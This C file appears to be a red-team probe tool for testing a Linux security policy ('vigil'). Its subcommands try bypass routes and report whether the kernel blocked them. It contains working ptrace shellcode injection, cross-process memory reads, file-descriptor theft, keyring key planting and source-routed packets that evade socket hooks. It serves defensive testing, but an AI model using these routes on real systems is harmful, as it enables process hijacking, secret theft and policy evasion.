/* redteam: probes of tests/vm/redteam.sh, routes around vigil's hooks that an attacker who is
 * root inside the policy's scope would try. Each subcommand is one route.
 *
 * Exit status: 0 when the kernel let the route through, 1 when it failed (strerror on stderr, so
 * "Operation not permitted" is EPERM), 2 on bad usage.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <liburing.h>
#include <linux/lwtunnel.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/seg6.h>
#include <linux/seg6_iptunnel.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

/*
 * x86-64: write(1, "PWNED\n", 6); exit_group(42). Position independent (the message is
 * addressed relative to rip), 42 bytes.
 */
static const unsigned char shellcode[] = {
    0x48, 0x8d, 0x35, 0x1d, 0x00, 0x00, 0x00, /* lea rsi, [rip + 29] */
    0xbf, 0x01, 0x00, 0x00, 0x00,             /* mov edi, 1 */
    0xba, 0x06, 0x00, 0x00, 0x00,             /* mov edx, 6 */
    0xb8, 0x01, 0x00, 0x00, 0x00,             /* mov eax, 1 (write) */
    0x0f, 0x05,                               /* syscall */
    0xbf, 0x2a, 0x00, 0x00, 0x00,             /* mov edi, 42 */
    0xb8, 0xe7, 0x00, 0x00, 0x00,             /* mov eax, 231 (exit_group) */
    0x0f, 0x05,                               /* syscall */
    'P',  'W',  'N',  'E',  'D',  '\n',
};

/* x86-64: mov eax, 42; ret */
static const unsigned char ret42[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3};

static int fail(const char *what, int err)
{
	fprintf(stderr, "%s: %s\n", what, strerror(err));
	return 1;
}

/* Code in anonymous memory: mmap PROT_EXEC of no file, the bytes written by the process. */
static int anon_exec(void)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS,
	               -1, 0);
	int (*fn)(void);

	if (p == MAP_FAILED)
		return fail("mmap anonymous PROT_EXEC", errno);
	memcpy(p, ret42, sizeof(ret42));
	fn = (int (*)(void))p;
	printf("anonymous code returned %d\n", fn());
	return fn() == 42 ? 0 : 1;
}

/* The same, made writable first and executable after: mprotect of an anonymous mapping. */
static int anon_mprotect(void)
{
	void *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int (*fn)(void);

	if (p == MAP_FAILED)
		return fail("mmap anonymous", errno);
	memcpy(p, ret42, sizeof(ret42));
	if (mprotect(p, 4096, PROT_READ | PROT_EXEC) < 0)
		return fail("mprotect anonymous PROT_EXEC", errno);
	fn = (int (*)(void))p;
	printf("anonymous code returned %d\n", fn());
	return fn() == 42 ? 0 : 1;
}

/*
 * execmod: a private writable mapping of an allowed file, written, then made executable. The
 * file is the allowlisted one, its pages in this mapping are not.
 */
static int exec_mod(const char *path)
{
	int fd = open(path, O_RDONLY);
	int (*fn)(void);
	void *p;

	if (fd < 0)
		return fail(path, errno);
	p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	if (p == MAP_FAILED)
		return fail("mmap private writable", errno);
	memcpy(p, ret42, sizeof(ret42));
	if (mprotect(p, 4096, PROT_READ | PROT_EXEC) < 0)
		return fail("mprotect PROT_EXEC of the written private mapping", errno);
	fn = (int (*)(void))p;
	printf("code written over %s returned %d\n", path, fn());
	return fn() == 42 ? 0 : 1;
}

/*
 * Code injection into another process by ptrace: attach, write the shellcode at its rip, make it
 * run there (no syscall restart), detach. The target prints PWNED on its stdout and exits 42.
 */
static int inject(pid_t pid)
{
	struct user_regs_struct regs;
	unsigned char buf[sizeof(shellcode) + 8] = {0};
	size_t i;
	int st;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return fail("ptrace attach", errno);
	if (waitpid(pid, &st, __WALL) < 0)
		return fail("waitpid", errno);
	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return fail("PTRACE_GETREGS", errno);
	memcpy(buf, shellcode, sizeof(shellcode));
	for (i = 0; i < sizeof(shellcode); i += 8) {
		long word;

		memcpy(&word, buf + i, 8);
		if (ptrace(PTRACE_POKETEXT, pid, regs.rip + i, word) < 0)
			return fail("PTRACE_POKETEXT", errno);
	}
	regs.orig_rax = -1; /* not in a syscall: no restart moves rip back */
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0)
		return fail("PTRACE_SETREGS", errno);
	if (ptrace(PTRACE_DETACH, pid, 0, 0) < 0)
		return fail("PTRACE_DETACH", errno);
	printf("injected %zu bytes at %#llx in %d\n", sizeof(shellcode),
	       (unsigned long long)regs.rip, pid);
	return 0;
}

/* process_vm_readv of 16 bytes at the start of another process's stack (from /proc/PID/stat). */
static int vm_read(pid_t pid)
{
	char path[64], line[4096], *p;
	unsigned long long start = 0;
	unsigned char out[16];
	struct iovec local = {out, sizeof(out)}, remote;
	FILE *f;
	int field;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	f = fopen(path, "r");
	if (!f || !fgets(line, sizeof(line), f))
		return fail(path, errno);
	fclose(f);
	/* Field 28 is startstack; fields after the ")" of comm start at 3. */
	p = strrchr(line, ')');
	for (field = 2; p && field < 28; field++)
		p = strchr(p + 1, ' ');
	if (!p || sscanf(p + 1, "%llu", &start) != 1)
		return fail("startstack", EINVAL);
	/* 0 when the stat fields are hidden from the caller (ptrace read mode refused): any
	 * address asks the same access check. */
	if (!start)
		start = 0x400000;
	remote.iov_base = (void *)(uintptr_t)start;
	remote.iov_len = sizeof(out);
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) < 0)
		return fail("process_vm_readv", errno);
	printf("read %zu bytes of %d's memory\n", sizeof(out), pid);
	return 0;
}

/* pidfd_getfd: a copy of another process's open file, no open(2) of ours; prints its start. */
static int get_fd(pid_t pid, int fd)
{
	char buf[256];
	int pfd = syscall(SYS_pidfd_open, pid, 0), nfd;
	ssize_t n;

	if (pfd < 0)
		return fail("pidfd_open", errno);
	nfd = syscall(SYS_pidfd_getfd, pfd, fd, 0);
	if (nfd < 0)
		return fail("pidfd_getfd", errno);
	n = pread(nfd, buf, sizeof(buf) - 1, 0);
	if (n < 0)
		return fail("read of the stolen fd", errno);
	buf[n] = 0;
	printf("%s", buf);
	return 0;
}

struct handle {
	struct file_handle fh;
	unsigned char data[MAX_HANDLE_SZ];
};

static int get_handle(const char *path, struct handle *h)
{
	int mount_id;

	h->fh.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, &h->fh, &mount_id, 0) < 0)
		return fail("name_to_handle_at", errno);
	return 0;
}

/* open_by_handle_at of h on the file system mounted at mnt; prints the file's start. */
static int open_handle(const char *mnt, struct handle *h)
{
	char buf[256];
	int mfd, fd;
	ssize_t n;

	mfd = open(mnt, O_RDONLY | O_DIRECTORY);
	if (mfd < 0)
		return fail(mnt, errno);
	fd = open_by_handle_at(mfd, &h->fh, O_RDONLY);
	if (fd < 0)
		return fail("open_by_handle_at", errno);
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0)
		return fail("read", errno);
	buf[n] = 0;
	printf("%s", buf);
	return 0;
}

/* open_by_handle_at: a file opened by its handle, no path walk. */
static int by_handle(const char *path)
{
	struct handle h;

	return get_handle(path, &h) ?: open_handle("/", &h);
}

/* Saves PATH's file handle to OUT: the attacker keeps it while the dentry is evicted. */
static int handle_save(const char *path, const char *out)
{
	struct handle h;
	FILE *f;

	if (get_handle(path, &h))
		return 1;
	f = fopen(out, "wb");
	if (!f)
		return fail(out, errno);
	if (fwrite(&h, sizeof(h.fh) + h.fh.handle_bytes, 1, f) != 1 || fclose(f) != 0)
		return fail(out, EIO);
	return 0;
}

/* Opens the handle saved in IN on the file system mounted at MNT and prints the file. */
static int handle_open(const char *mnt, const char *in)
{
	struct handle h;
	size_t n;
	FILE *f;

	f = fopen(in, "rb");
	if (!f)
		return fail(in, errno);
	n = fread(&h, 1, sizeof(h), f);
	fclose(f);
	if (n < sizeof(h.fh) || h.fh.handle_bytes > MAX_HANDLE_SZ ||
	    n != sizeof(h.fh) + h.fh.handle_bytes)
		return fail(in, EINVAL);
	return open_handle(mnt, &h);
}

static struct rtattr *nl_add(struct nlmsghdr *n, unsigned short type, const void *data, size_t len)
{
	struct rtattr *a = (struct rtattr *)((char *)n + NLMSG_ALIGN(n->nlmsg_len));

	a->rta_type = type;
	a->rta_len = RTA_LENGTH(len);
	if (data)
		memcpy(RTA_DATA(a), data, len);
	n->nlmsg_len = NLMSG_ALIGN(n->nlmsg_len) + RTA_ALIGN(a->rta_len);
	return a;
}

/*
 * CAP_NET_ADMIN: a route to DST (an address the network section allows) through IFNAME that
 * encapsulates every packet in an outer IPv6 header whose destination is SEGMENT (SRv6,
 * "encap seg6 mode encap", built into the kernel's ipv6). The socket hooks see DST.
 */
static int seg6_route(const char *ifname, const char *dst, const char *segment)
{
	struct {
		struct nlmsghdr n;
		struct rtmsg r;
		char buf[512];
	} req = {0};
	struct {
		struct nlmsghdr n;
		struct nlmsgerr e;
	} ack;
	struct sockaddr_nl sa = {.nl_family = AF_NETLINK};
	unsigned char enc[sizeof(struct seg6_iptunnel_encap) + sizeof(struct ipv6_sr_hdr) + 16] = {
	    0};
	struct seg6_iptunnel_encap *tun = (struct seg6_iptunnel_encap *)enc;
	struct ipv6_sr_hdr *srh = (struct ipv6_sr_hdr *)(enc + sizeof(*tun));
	struct in6_addr d, seg;
	unsigned short etype = LWTUNNEL_ENCAP_SEG6;
	struct rtattr *nest;
	int ifindex = if_nametoindex(ifname), fd;

	if (!ifindex)
		return fail(ifname, errno);
	if (inet_pton(AF_INET6, dst, &d) != 1 || inet_pton(AF_INET6, segment, &seg) != 1)
		return fail("address", EINVAL);
	tun->mode = SEG6_IPTUN_MODE_ENCAP;
	srh->nexthdr = 0;
	srh->hdrlen = 2; /* one segment: (8 + 16) / 8 - 1 */
	srh->type = 4;   /* IPV6_SRCRT_TYPE_4 */
	srh->segments_left = 0;
	srh->first_segment = 0;
	memcpy(&srh->segments[0], &seg, 16);

	req.n.nlmsg_len = NLMSG_LENGTH(sizeof(struct rtmsg));
	req.n.nlmsg_type = RTM_NEWROUTE;
	req.n.nlmsg_flags = NLM_F_REQUEST | NLM_F_CREATE | NLM_F_REPLACE | NLM_F_ACK;
	req.r.rtm_family = AF_INET6;
	req.r.rtm_dst_len = 128;
	req.r.rtm_table = RT_TABLE_MAIN;
	req.r.rtm_protocol = RTPROT_BOOT;
	req.r.rtm_scope = RT_SCOPE_UNIVERSE;
	req.r.rtm_type = RTN_UNICAST;
	nl_add(&req.n, RTA_DST, &d, 16);
	nl_add(&req.n, RTA_OIF, &ifindex, sizeof(ifindex));
	nl_add(&req.n, RTA_ENCAP_TYPE, &etype, sizeof(etype));
	nest = nl_add(&req.n, RTA_ENCAP | NLA_F_NESTED, NULL, 0);
	nl_add(&req.n, SEG6_IPTUNNEL_SRH, enc, sizeof(enc));
	nest->rta_len = (char *)&req.n + req.n.nlmsg_len - (char *)nest;

	fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	if (fd < 0)
		return fail("netlink socket", errno);
	if (sendto(fd, &req, req.n.nlmsg_len, 0, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return fail("netlink send", errno);
	if (recv(fd, &ack, sizeof(ack), 0) < 0)
		return fail("netlink recv", errno);
	if (ack.n.nlmsg_type == NLMSG_ERROR && ack.e.error)
		return fail("RTM_NEWROUTE encap seg6", -ack.e.error);
	printf("route %s via %s: encapsulated to %s\n", dst, ifname, segment);
	return 0;
}

/*
 * 20 UDP datagrams to ADDR:PORT (IPv4 or IPv6), optionally with a source route the socket
 * carries: VIA is then the first hop, the packet's real destination on the wire.
 *   none: plain sendto;
 *   srr:  IPv4 IP_OPTIONS loose source route {VIA} (no capability needed);
 *   rthdr: IPv6 IPV6_RTHDR segment routing header {VIA} (no capability needed);
 *   rthdr2: IPv6 type 2 routing header {VIA} as an IPV6_RTHDR control message of each sendmsg
 *           (Mobile IPv6, built in; no capability needed).
 */
static int udp_send(const char *how, const char *addr, int port, const char *via)
{
	struct sockaddr_storage ss = {0};
	struct sockaddr_in *sin = (struct sockaddr_in *)&ss;
	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)&ss;
	socklen_t len;
	int fd, i, v6 = strchr(addr, ':') != NULL;

	if (v6) {
		sin6->sin6_family = AF_INET6;
		sin6->sin6_port = htons(port);
		if (inet_pton(AF_INET6, addr, &sin6->sin6_addr) != 1)
			return fail("address", EINVAL);
		len = sizeof(*sin6);
	} else {
		sin->sin_family = AF_INET;
		sin->sin_port = htons(port);
		if (inet_pton(AF_INET, addr, &sin->sin_addr) != 1)
			return fail("address", EINVAL);
		len = sizeof(*sin);
	}
	fd = socket(v6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0);
	if (fd < 0)
		return fail("socket", errno);
	if (!strcmp(how, "srr")) {
		unsigned char opt[7] = {0x83, 7, 4}; /* IPOPT_LSRR, length, pointer, first hop */

		if (v6 || inet_pton(AF_INET, via, opt + 3) != 1)
			return fail("srr: an IPv4 destination and hop", EINVAL);
		if (setsockopt(fd, IPPROTO_IP, IP_OPTIONS, opt, sizeof(opt)) < 0)
			return fail("setsockopt IP_OPTIONS (loose source route)", errno);
	} else if (!strcmp(how, "rthdr")) {
		unsigned char buf[sizeof(struct ipv6_sr_hdr) + 32] = {0};
		struct ipv6_sr_hdr *srh = (struct ipv6_sr_hdr *)buf;

		srh->hdrlen = 4; /* two segments: (8 + 32) / 8 - 1 */
		srh->type = 4;   /* IPV6_SRCRT_TYPE_4 */
		srh->segments_left = 1;
		srh->first_segment = 1;
		/* segments[0] becomes the socket's destination; segments[1] is the next hop. */
		if (!v6 || inet_pton(AF_INET6, via, &srh->segments[1]) != 1)
			return fail("rthdr: an IPv6 destination and segment", EINVAL);
		if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, buf, sizeof(buf)) < 0)
			return fail("setsockopt IPV6_RTHDR (segment routing header)", errno);
	} else if (strcmp(how, "none") && strcmp(how, "rthdr2")) {
		return fail(how, EINVAL);
	}
	if (!strcmp(how, "rthdr2")) {
		/* struct rt2_hdr: the header, 4 reserved bytes, the one address. */
		union {
			char buf[CMSG_SPACE(24)];
			struct cmsghdr align;
		} ctl = {0};
		struct cmsghdr *c = (struct cmsghdr *)ctl.buf;
		unsigned char *rt = CMSG_DATA(c);
		struct iovec iov = {"x", 1};
		struct msghdr msg = {.msg_name = &ss,
		                     .msg_namelen = len,
		                     .msg_iov = &iov,
		                     .msg_iovlen = 1,
		                     .msg_control = ctl.buf,
		                     .msg_controllen = sizeof(ctl.buf)};

		c->cmsg_level = IPPROTO_IPV6;
		c->cmsg_type = IPV6_RTHDR;
		c->cmsg_len = CMSG_LEN(24);
		rt[1] = 2; /* hdrlen */
		rt[2] = 2; /* type 2 */
		rt[3] = 1; /* segments left */
		if (!v6 || inet_pton(AF_INET6, via, rt + 8) != 1)
			return fail("rthdr2: an IPv6 destination and address", EINVAL);
		for (i = 0; i < 20; i++)
			if (sendmsg(fd, &msg, 0) < 0)
				return fail("sendmsg with an IPV6_RTHDR control message", errno);
	} else {
		for (i = 0; i < 20; i++)
			if (sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len) < 0)
				return fail("sendto", errno);
	}
	printf("sent 20 datagrams to %s port %d%s%s\n", addr, port, via ? " via " : "", via ?: "");
	return 0;
}

/* io_uring openat forced to an io-wq worker thread (IOSQE_ASYNC), then a read. */
static int uring_open(const char *path)
{
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	char buf[256];
	ssize_t n;
	int r, fd;

	if ((r = io_uring_queue_init(4, &ring, 0)) < 0)
		return fail("io_uring_queue_init", -r);
	sqe = io_uring_get_sqe(&ring);
	io_uring_prep_openat(sqe, AT_FDCWD, path, O_RDONLY, 0);
	sqe->flags |= IOSQE_ASYNC;
	io_uring_submit(&ring);
	if ((r = io_uring_wait_cqe(&ring, &cqe)) < 0)
		return fail("io_uring_wait_cqe", -r);
	fd = cqe->res;
	io_uring_cqe_seen(&ring, cqe);
	if (fd < 0)
		return fail("io_uring openat (async worker)", -fd);
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0)
		return fail("read", errno);
	buf[n] = 0;
	printf("%s", buf);
	return 0;
}

#define KEY_SPEC_USER_KEYRING (-4)
#define KEYCTL_CLEAR          7
#define KEYCTL_SEARCH         10
#define KEYCTL_READ           11

/* A "user" key DESC = PAYLOAD in the caller's user keyring (root's is shared by every root). */
static int key_add(const char *desc, const char *payload)
{
	long id =
	    syscall(SYS_add_key, "user", desc, payload, strlen(payload), KEY_SPEC_USER_KEYRING);

	if (id < 0)
		return fail("add_key", errno);
	printf("%ld\n", id);
	return 0;
}

/* What a consumer does: find "user" DESC in the user keyring, read it. */
static int key_read_desc(const char *desc)
{
	char buf[256];
	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0), n;

	if (id < 0)
		return fail("keyctl search", errno);
	n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof(buf) - 1);
	if (n < 0)
		return fail("keyctl read", errno);
	buf[n < (long)sizeof(buf) - 1 ? n : (long)sizeof(buf) - 1] = 0;
	printf("%s\n", buf);
	return 0;
}

/*
 * Key substitution: KEYCTL_CLEAR of the shared user keyring (write permission on the keyring
 * only; no check of the keys it unlinks), then a key of the managed description with the
 * attacker's payload in its place.
 */
static int key_clear_plant(const char *desc, const char *payload)
{
	if (syscall(SYS_keyctl, KEYCTL_CLEAR, KEY_SPEC_USER_KEYRING) < 0)
		return fail("keyctl clear of the user keyring", errno);
	return key_add(desc, payload);
}

#define KEYCTL_REVOKE     3
#define KEYCTL_SETPERM    5
#define KEYCTL_UNLINK     9
#define KEYCTL_INVALIDATE 21

/*
 * The other ways to take the platform's key out of root's user keyring: unlink it (by serial),
 * revoke or invalidate the keyring, open its permissions, or replace a link in it (a "keyring" of
 * the description of one the platform keeps there: keyrings have no update, add_key replaces).
 */
static int key_ring(const char *op, const char *desc)
{
	long r;

	if (!strcmp(op, "unlink")) /* desc is the key's serial here: the scope cannot search it */
		r = syscall(SYS_keyctl, KEYCTL_UNLINK, atol(desc), KEY_SPEC_USER_KEYRING);
	else if (!strcmp(op, "revoke"))
		r = syscall(SYS_keyctl, KEYCTL_REVOKE, KEY_SPEC_USER_KEYRING);
	else if (!strcmp(op, "invalidate"))
		r = syscall(SYS_keyctl, KEYCTL_INVALIDATE, KEY_SPEC_USER_KEYRING);
	else if (!strcmp(op, "setperm"))
		r = syscall(SYS_keyctl, KEYCTL_SETPERM, KEY_SPEC_USER_KEYRING, 0x3f3f3f3f);
	else if (!strcmp(op, "add-keyring"))
		r = syscall(SYS_add_key, "keyring", desc, NULL, 0, KEY_SPEC_USER_KEYRING);
	else
		return 2;
	if (r < 0)
		return fail(op, errno);
	printf("%s done\n", op);
	return 0;
}

/*
 * SCM_RIGHTS from the platform: fd-send PATH CGROUP opens PATH (as the platform), puts a child
 * into CGROUP (the scope) and sends it the descriptor; the child runs `fd-recv`, which receives
 * and reads it. fd-recv exits 0 when it read the file, 1 when the descriptor was left out
 * (MSG_CTRUNC: security_file_receive refused it), 3 on anything else.
 */
static int fd_recv(int sock)
{
	char data[8], cbuf[CMSG_SPACE(sizeof(int))], buf[256];
	struct iovec iov = {.iov_base = data, .iov_len = sizeof(data)};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c;
	ssize_t n = recvmsg(sock, &m, 0);
	int fd = -1;

	if (n < 0)
		return fail("recvmsg", errno) + 2;
	for (c = CMSG_FIRSTHDR(&m); c; c = CMSG_NXTHDR(&m, c))
		if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_RIGHTS)
			memcpy(&fd, CMSG_DATA(c), sizeof(fd));
	printf("recvmsg %zd bytes, flags%s%s\n", n, m.msg_flags & MSG_CTRUNC ? " MSG_CTRUNC" : "",
	       fd >= 0 ? ", a descriptor" : ", no descriptor");
	if (fd < 0)
		return m.msg_flags & MSG_CTRUNC ? 1 : 3;
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0)
		return fail("read", errno) + 2;
	buf[n] = 0;
	printf("%s", buf);
	return 0;
}

/*
 * Runs `redteam SUB [ARG]` in a child that first joins CGROUP (the scope); the parent closes
 * parent_fd (when >= 0) once the child holds it. Exit: the child's; 3 + fail's when the child
 * could not join or exec.
 */
static int run_in_scope(const char *cgroup, const char *sub, const char *arg, int parent_fd)
{
	char procs[512];
	int st = 0, cg;
	pid_t pid = fork();

	if (pid < 0)
		return fail("fork", errno);
	if (pid == 0) {
		snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgroup);
		cg = open(procs, O_WRONLY);
		if (cg < 0 || write(cg, "0", 1) != 1)
			_exit(fail("join the scope's cgroup", errno) + 3);
		close(cg);
		execl("/t/redteam", "redteam", sub, arg, (char *)NULL);
		_exit(fail("execl", errno) + 3);
	}
	if (parent_fd >= 0)
		close(parent_fd);
	if (waitpid(pid, &st, 0) < 0)
		return fail("waitpid", errno);
	return WIFEXITED(st) ? WEXITSTATUS(st) : 5;
}

static int fd_send(const char *path, const char *cgroup)
{
	char cbuf[CMSG_SPACE(sizeof(int))], sfd[16];
	struct iovec iov = {.iov_base = "fd", .iov_len = 2};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int sv[2], fd = open(path, O_RDONLY);

	if (fd < 0)
		return fail("open", errno);
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
		return fail("socketpair", errno);
	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &fd, sizeof(fd));
	if (sendmsg(sv[0], &m, 0) < 0)
		return fail("sendmsg", errno);
	close(fd);
	snprintf(sfd, sizeof(sfd), "%d", sv[1]);
	return run_in_scope(cgroup, "fd-recv", sfd, sv[1]);
}

#define KEYCTL_JOIN_SESSION_KEYRING 1
#define KEYCTL_SESSION_TO_PARENT    18

/*
 * KEYCTL_SESSION_TO_PARENT from the scope to a platform parent: session-parent CGROUP (run by
 * the platform) forks a child into CGROUP that runs `session-to-parent`: a new session keyring
 * (the scope's own), handed to the parent. Exit: the child's.
 */
static int session_to_parent(void)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0)
		return fail("keyctl join_session_keyring", errno);
	if (syscall(SYS_keyctl, KEYCTL_SESSION_TO_PARENT) < 0)
		return fail("keyctl session_to_parent", errno);
	printf("the parent's session keyring is now the scope's\n");
	return 0;
}

static int session_parent(const char *cgroup)
{
	return run_in_scope(cgroup, "session-to-parent", NULL, -1);
}

/* Real-time priority for the caller itself (CAP_SYS_NICE, kept by the ordinary set). */
static int sched_fifo(void)
{
	struct sched_param sp = {.sched_priority = 99};

	if (sched_setscheduler(0, SCHED_FIFO, &sp) < 0)
		return fail("sched_setscheduler SCHED_FIFO 99", errno);
	printf("SCHED_FIFO 99\n");
	return 0;
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	setvbuf(stdout, NULL, _IONBF, 0);
	if (!strcmp(cmd, "anon-exec"))
		return anon_exec();
	if (!strcmp(cmd, "anon-mprotect"))
		return anon_mprotect();
	if (!strcmp(cmd, "execmod") && argc == 3)
		return exec_mod(argv[2]);
	if (!strcmp(cmd, "inject") && argc == 3)
		return inject(atoi(argv[2]));
	if (!strcmp(cmd, "vm-read") && argc == 3)
		return vm_read(atoi(argv[2]));
	if (!strcmp(cmd, "getfd") && argc == 4)
		return get_fd(atoi(argv[2]), atoi(argv[3]));
	if (!strcmp(cmd, "key-add") && argc == 4)
		return key_add(argv[2], argv[3]);
	if (!strcmp(cmd, "key-read-desc") && argc == 3)
		return key_read_desc(argv[2]);
	if (!strcmp(cmd, "key-clear-plant") && argc == 4)
		return key_clear_plant(argv[2], argv[3]);
	if (!strcmp(cmd, "key-ring") && argc == 4)
		return key_ring(argv[2], argv[3]);
	if (!strcmp(cmd, "fd-send") && argc == 4)
		return fd_send(argv[2], argv[3]);
	if (!strcmp(cmd, "fd-recv") && argc == 3)
		return fd_recv(atoi(argv[2]));
	if (!strcmp(cmd, "session-parent") && argc == 3)
		return session_parent(argv[2]);
	if (!strcmp(cmd, "session-to-parent"))
		return session_to_parent();
	if (!strcmp(cmd, "sched-fifo"))
		return sched_fifo();
	if (!strcmp(cmd, "uring-open") && argc == 3)
		return uring_open(argv[2]);
	if (!strcmp(cmd, "handle") && argc == 3)
		return by_handle(argv[2]);
	if (!strcmp(cmd, "handle-save") && argc == 4)
		return handle_save(argv[2], argv[3]);
	if (!strcmp(cmd, "handle-open") && argc == 4)
		return handle_open(argv[2], argv[3]);
	if (!strcmp(cmd, "seg6") && argc == 5)
		return seg6_route(argv[2], argv[3], argv[4]);
	if (!strcmp(cmd, "udp") && argc == 4)
		return udp_send("none", argv[2], atoi(argv[3]), NULL);
	if (!strcmp(cmd, "udp") && argc == 6 && !strcmp(argv[4], "via-srr"))
		return udp_send("srr", argv[2], atoi(argv[3]), argv[5]);
	if (!strcmp(cmd, "udp") && argc == 6 && !strcmp(argv[4], "via-rthdr"))
		return udp_send("rthdr", argv[2], atoi(argv[3]), argv[5]);
	if (!strcmp(cmd, "udp") && argc == 6 && !strcmp(argv[4], "via-rthdr2-cmsg"))
		return udp_send("rthdr2", argv[2], atoi(argv[3]), argv[5]);
	fprintf(stderr,
	        "usage: redteam anon-exec | anon-mprotect | execmod FILE | inject PID | "
	        "vm-read PID | getfd PID FD | handle PATH | handle-save PATH OUT | handle-open MNT "
	        "IN | "
	        "uring-open PATH | sched-fifo | "
	        "key-add DESC "
	        "PAYLOAD | key-read-desc DESC | key-clear-plant DESC PAYLOAD | key-ring OP DESC | "
	        "fd-send PATH CGROUP | fd-recv FD | session-parent CGROUP | seg6 IF DST "
	        "SEGMENT | udp ADDR "
	        "PORT [via-srr|via-rthdr|via-rthdr2-cmsg HOP]\n");
	return 2;
}
